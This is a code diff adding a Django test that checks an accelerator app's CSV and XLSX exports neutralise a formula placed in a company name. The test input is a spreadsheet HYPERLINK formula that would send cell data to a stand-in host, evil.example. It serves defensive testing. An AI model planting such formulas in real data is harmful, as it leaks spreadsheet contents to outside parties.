@@ -1,5 +1,9 @@
+import csv
+import io
+
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from biocampus.accelerator.models import Application, Call
 from biocampus.accelerator.services.applications import application_submit
@@ -31,6 +35,22 @@ def test_blind_review_page_hides_identity_and_pages_are_guarded(client, call, ac
     client.force_login(acc_staff)
     csv = client.get(reverse("accelerator:manage_call", args=[call.pk]), {"format": "csv"})
     assert "Secret Bio" in csv.content.decode()  # the operator sees who applied
+
+
+def test_the_applications_export_neutralises_a_formula_company_name(client, call, acc_staff):
+    founder = UserFactory()
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    application_submit(actor=founder, application=complete_application(founder, call, evil))
+    client.force_login(acc_staff)
+    url = reverse("accelerator:manage_call", args=[call.pk])
+    body = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
+    (row,) = list(csv.reader(io.StringIO(body)))[1:]
+    assert row[1] == "'" + evil
+    xlsx = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
+    cell = xlsx["B2"]
+    assert (cell.value, cell.data_type) == (evil, "s")  # text, never a formula
+    assert xlsx["C2"].data_type == "s"  # the enterprise number keeps its leading zero
+    assert xlsx["C2"].value.startswith("0")
 
 
 def test_mentor_needs_milestones_and_adjusting(client, call, acc_staff, accelerator):
